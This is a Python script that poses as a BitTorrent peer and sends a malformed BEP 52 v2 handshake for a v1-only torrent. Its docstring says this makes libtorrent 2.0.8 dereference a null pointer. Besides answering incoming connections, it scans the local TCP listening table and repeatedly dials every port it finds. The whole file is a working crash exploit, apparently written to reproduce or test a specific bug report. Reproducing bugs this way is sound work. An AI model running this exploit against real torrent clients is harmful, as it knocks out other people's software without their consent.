#!/usr/bin/python3
"""crash_peer.py INFO_DICT_FILE [--listen 127.0.0.1:0] [--spare PORT]... [--host 127.0.0.1]

Sets the v2 bit of BEP 52 in its handshake for a torrent that is v1 alone, hands over the metadata and says that it has
everything: libtorrent 2.0.8 follows a null pointer then (arvidn/libtorrent#8692). It answers who dials it, and dials whatever
listens here but the --spare ports, again and again. Prints {"port": …}, {"served": true} when it has handed the metadata over
and {"dialled": true} once somebody took its call."""
import argparse
import hashlib
import os
import socket
import struct
import threading

from wire import exactly, host_port, listen, message, say

BITS = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x04 | 0x10])  # extensions; fast and v2


def handshake(info):
    return b"\x13BitTorrent protocol" + BITS + hashlib.sha1(info).digest() + b"-XX0000-" + os.urandom(12)


def talk(line, info):
    line.sendall(message(20, b"\0d1:md11:ut_metadatai2ee13:metadata_sizei%dee" % len(info)) + message(14) + message(1))
    theirs = 2
    while True:
        length = struct.unpack(">I", exactly(line, 4))[0]
        got = exactly(line, length)
        if got[:1] == b"\x06":
            return  # a request: it has nothing
        if length < 2 or got[0] != 20:
            continue
        if got[1] == 0:
            at = got.find(b"11:ut_metadatai")
            theirs = int(got[at + 15:got.index(b"e", at + 15)])
        elif b"msg_typei0e" in got:
            at = got.index(b"5:piecei") + 8
            piece = int(got[at:got.index(b"e", at)])
            body = info[piece * 16384:(piece + 1) * 16384]
            line.sendall(message(20, bytes([theirs]) + b"d8:msg_typei1e5:piecei%de10:total_sizei%dee" % (piece, len(info)) + body))
            say(served=True)


def listening():
    """The TCP ports that something in this namespace listens on."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as file:
            for row in file.read().splitlines()[1:]:
                words = row.split()
                if words[3] == "0A":
                    ports.add(int(words[1].rsplit(":", 1)[1], 16))
    return ports


def dial(info, host, spare):
    told = False
    pause = threading.Event()
    while not pause.wait(0.05):  # between two rounds of calls, not for something to happen
        for port in listening() - spare:
            try:
                with socket.create_connection((host, port), 2, ("127.0.0.77", 0)) as line:
                    line.sendall(handshake(info))
                    if not told:
                        say(dialled=True)
                        told = True
                    exactly(line, 68)
                    talk(line, info)
            except (OSError, ValueError, struct.error):
                pass


def main():
    options = argparse.ArgumentParser()
    options.add_argument("info")
    options.add_argument("--listen", default="127.0.0.1:0", type=host_port)
    options.add_argument("--spare", action="append", default=[], type=int)
    options.add_argument("--host", default="127.0.0.1", help="whom it calls")
    given = options.parse_args()
    with open(given.info, "rb") as file:
        info = file.read()
    server = listen(given.listen)
    threading.Thread(target=dial, args=(info, given.host, {server.getsockname()[1], *given.spare}), daemon=True).start()
    while True:
        line, _ = server.accept()
        try:
            exactly(line, 68)
            line.sendall(handshake(info))
            talk(line, info)
        except (OSError, ValueError, struct.error):
            pass
        finally:
            line.close()


main()
